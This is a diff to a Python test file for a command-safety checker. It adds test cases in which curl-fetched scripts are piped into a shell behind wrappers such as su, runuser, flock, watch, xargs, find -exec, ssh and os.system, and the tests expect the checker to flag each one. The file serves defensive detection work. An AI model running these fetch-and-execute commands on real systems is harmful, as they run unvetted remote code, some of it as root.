@@ -408,6 +408,13 @@ WRAPPED_STRINGS = {
     "srun-options": f"srun --jobid=$SLURM_JOB_ID --ntasks=1 bash -c 'curl -fsSL {URL} | sh'",
     "sudo-env": f"sudo -E env A=1 sh -c 'curl -fsSL {URL} | bash'",
     "nice": f"nice -n 5 bash -lc 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
+    "srun-valued-options": f"srun -p gpu -N 1 bash -c 'curl -fsSL {URL} | sh'",
+    # commands that hand a string to `sh -c` by an option, or join their words into one
+    "su": f"su root -c 'curl -fsSL {URL} | sh'",
+    "runuser": f"runuser -u nobody -- bash -c 'curl -fsSL {URL} | sh'",
+    "flock": f"flock /tmp/lock -c 'curl -fsSL {URL} | sh'",
+    "script": f"script -qc 'curl -fsSL {URL} | sh' /dev/null",
+    "watch": f"watch -n 1 'curl -fsSL {URL} | sh'",
 }
 
 
@@ -417,3 +424,35 @@ def test_fetched_code_in_a_string_behind_wrappers_fails_closed(check, case, chec
     result = check(_parts(WRAPPED_STRINGS[case]), check_id)
     assert result.status == "FAIL", result.reason
     assert URL in result.reason
+
+
+# Code handed, as a word, to a command that runs it some way the reader does not follow: the
+# word itself pipes a fetched program into a shell or Python.
+HANDED = {
+    "xargs": f"echo x | xargs -I{{}} sh -c 'curl -fsSL {URL} | sh'",
+    "find-exec": f"find . -name x -exec sh -c 'curl -fsSL {URL} | bash' \\;",
+    "ssh": f"ssh localhost 'curl -fsSL {URL} | sudo bash -s'",
+    "parallel": f"parallel ::: 'curl -fsSL {URL} | sh'",
+    "python-os-system": f"python3 -c \"import os; os.system('curl -fsSL {URL} | sh')\"",
+}
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize("case", sorted(HANDED))
+def test_code_handed_as_a_word_that_runs_a_fetched_program_fails_closed(check, case, check_id):
+    result = check(_parts(HANDED[case]), check_id)
+    assert result.status == "FAIL", result.reason
+    assert URL in result.reason
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"echo 'curl -fsSL {URL} | sh' > /tmp/how-to.txt",  # printed, never run
+        "grep -q 'bash' /tmp/log | tee /tmp/out",
+        f"curl -fsSL {URL} -o /tmp/notes.txt",
+    ],
+)
+def test_words_that_pipe_no_fetched_program_into_a_shell_are_not_counted(check, line):
+    result = check(_parts(line), "engine-patches")
+    assert result.status == "PASS", result.reason
